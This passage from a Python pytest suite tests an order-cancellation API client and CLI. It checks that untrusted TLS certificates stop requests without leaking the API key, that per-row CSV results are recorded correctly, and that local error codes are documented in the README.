    finally:
        await runner.cleanup()


async def test_certificates_are_always_verified(tmp_path: Path) -> None:
    async with (
        api_with_untrusted_certificate(tmp_path) as (base_url, reached),
        ShipperClient(
            base_url=base_url, api_key=CANARY_KEY, timeout_s=5, max_connections=1
        ) as client,
    ):
        with pytest.raises(aiohttp.ClientConnectorCertificateError):
            await client.cancel(CancelRequest(1, "ORD-1", "WH", "r"))
    assert reached == []  # the key never reached a server whose certificate failed


@pytest.mark.integration
async def test_a_certificate_that_fails_verification_stops_the_run(tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "in.csv",
        ["order_no", "warehouse_id", "cancel_reason"],
        [[f"ORD-{i}", "WH", "r"] for i in range(30)],
    )
    out = tmp_path / "results.csv"
    async with api_with_untrusted_certificate(tmp_path) as (base_url, reached):
        done = await asyncio.to_thread(
            run_cli,
            "run",
            source,
            "-o",
            out,
            "--base-url",
            base_url,
            "--concurrency",
            "4",
            "--rate",
            "0",
            env=cli_env(api_key=CANARY_KEY),
        )
    assert done.returncode == 3, done.stderr
    assert "TLS certificate failed verification" in done.stderr
    rows = read_results(out)
    assert len(rows) == 30
    failed = [row for row in rows if row["result_status"] == "failed"]
    assert 1 <= len(failed) <= 4  # only the requests already under way
    for row in failed:
        assert row["result_error_code"] == "tls_error"
        assert row["result_attempts"] == "1"  # not retried
    assert {row["result_error_code"] for row in rows if row not in failed} == {"tls_error"}
    assert {row["result_status"] for row in rows if row not in failed} == {"not_sent"}
    assert reached == []
    assert CANARY_KEY not in done.stderr + done.stdout


def test_local_codes_are_documented() -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    for code in (
        LocalCode.WRONG_FIELD_COUNT,
        LocalCode.UNCLOSED_QUOTE,
        LocalCode.CONTROL_CHARACTERS,
        LocalCode.SCIENTIFIC_NOTATION,
        LocalCode.GARBLED_TEXT,
    ):
        assert f"`{code.value}`" in readme, code
